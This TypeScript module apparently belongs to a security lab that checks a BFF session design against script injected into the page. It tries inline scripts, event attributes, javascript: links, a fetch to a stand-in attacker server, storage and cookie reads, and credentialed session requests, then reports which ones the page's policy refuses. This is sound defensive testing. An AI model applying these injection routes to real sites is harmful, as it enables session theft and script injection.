/**
 * Attacks that run in this very page, as a script does that was injected into it: each says what it has heard, and the BFF assesses it.
 */
import { cookieNames, csrfHeader, paths } from '@tokenless/bff/contract';
import { bffOrigin } from '../../http/bff-origin.ts';
import { http } from '../../http/http.ts';
import { readableByScript } from '../../session/readable-by-script.ts';
import { paths as labPaths, type Attempt, type ReportRequest } from './contract.ts';

/** By the attack's id. */
export const pageAttacks: Readonly<Record<string, (attempt: Attempt) => Promise<ReportRequest>>> = {
  'read-storage': lookEverywhere,
  'injected-script': injectScript,
  'cookie-attributes': readOwnCookies,
  'script-in-the-page': useTheSession,
};

async function readStorage(): Promise<ReportRequest> {
  const readOuts = await readableByScript();
  return {
    heard: readOuts.flatMap(({ place, found }) => found.map((name) => `${place}: ${name}`)),
    remarks: readOuts.map(({ place, found }) => byScript(`reads ${place}: ${found.join(', ') || 'empty'}`)),
  };
}

const byScript = (says: string) => ({ by: 'script', says });

/** Each of these would run, or load, were it not for the page's policy. */
async function injectScript({ id, attacker = '' }: Attempt): Promise<ReportRequest> {
  const ran: string[] = [];
  const run = (event: Event) => ran.push((event as CustomEvent<string>).detail);
  document.addEventListener('lab-ran', run);
  const code = (how: string) => `document.dispatchEvent(new CustomEvent('lab-ran',{detail:'${how}'}))`;
  const ways = {
    'an inline script': (way: string) => {
      const script = document.createElement('script');
      script.append(code(way));
      document.body.append(script);
      script.remove();
    },
    'an event attribute': (way: string) => {
      const button = document.createElement('button');
      button.setAttribute('onclick', code(way));
      button.click();
    },
    'a javascript: address': (way: string) => {
      const link = document.createElement('a');
      link.setAttribute('href', `javascript:${code(way)}`);
      document.body.append(link);
      link.click();
      link.remove();
    },
    'something sent away to the attacker’s server': async (way: string) => {
      await fetch(`${attacker}/attacker/empty?attempt=${id}`, { mode: 'no-cors' });
      ran.push(way);
    },
  };
  await attemptEach(
    Object.entries(ways).map(
      ([way, tryIt]) =>
        () =>
          tryIt(way),
    ),
  );
  await linksFollowed();
  document.removeEventListener('lab-ran', run);
  if (ran.length === 0) await reportArrived(id);
  const remarks = Object.keys(ways).map((way) =>
    byScript(`tries ${way}: ${ran.includes(way) ? 'it works' : 'refused'}`),
  );
  return { heard: ran, remarks };
}

/** A link of code runs when the browser comes to it, not at once. */
function linksFollowed(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 100));
}

/** The browser sends it by itself; over https some keep it back for a while, which nobody waits for. */
async function reportArrived(id: string): Promise<void> {
  for (let asked = 0; asked < 10; asked += 1) {
    const { data } = await http.get<Attempt>(labPaths.attempt(id));
    if (data.steps.length > 0) return;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

const headers = { [csrfHeader.name]: csrfHeader.value };

function recorded(path: string, { id }: Attempt, by: string): string {
  return `${path}?attempt=${id}.${encodeURIComponent(by)}`;
}

/** Makes the browser attach its cookies, so that one sees that there are some, and looks for them. */
async function lookEverywhere(attempt: Attempt): Promise<ReportRequest> {
  await http.get(recorded(paths.session, attempt, 'page'));
  return readStorage();
}

async function readOwnCookies(attempt: Attempt): Promise<ReportRequest> {
  const { heard, remarks } = await lookEverywhere(attempt);
  const isOwn = (each: string) => Object.values(cookieNames).some((name) => each.includes(name));
  return { heard: heard.filter(isOwn), remarks };
}

/** What is left for an injected script: to ask as the page does, by fetch or by axios, while the page is open. */
async function useTheSession(attempt: Attempt): Promise<ReportRequest> {
  const byFetch = (by: string, credentials: RequestCredentials) =>
    fetch(bffOrigin() + recorded(paths.sessions, attempt, by), { credentials, headers });
  const byAxios = (by: string, withCredentials: boolean) =>
    http.get(recorded(paths.sessions, attempt, by), { withCredentials, validateStatus: null });
  const answers = [
    await byFetch('script, by fetch', 'include'),
    await byAxios('script, by axios', true),
    await byFetch('script, by fetch without cookies', 'omit'),
    await byAxios('script, by axios without cookies', false),
  ];
  const { heard, remarks } = await readStorage();
  return { heard: [answers.map(({ status }) => status).join(), ...heard], remarks };
}

/** One failing, which is what is hoped for, keeps none of the others from being tried. */
async function attemptEach(tries: readonly (() => unknown)[]): Promise<void> {
  for (const each of tries) {
    try {
      await each();
    } catch {
      // The policy refused it; the report on its way to the BFF says so.
    }
  }
}
